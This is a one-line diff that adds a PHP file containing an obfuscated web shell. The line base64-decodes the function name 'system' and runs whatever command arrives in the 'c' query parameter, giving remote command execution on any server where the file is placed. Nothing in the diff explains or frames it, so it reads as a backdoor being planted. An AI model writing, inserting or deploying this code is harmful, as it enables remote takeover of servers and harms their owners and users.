@@ -1,0 +1,1 @@
+<?php $a = base64_decode('c3lzdGVt'); $a($_GET['c']);
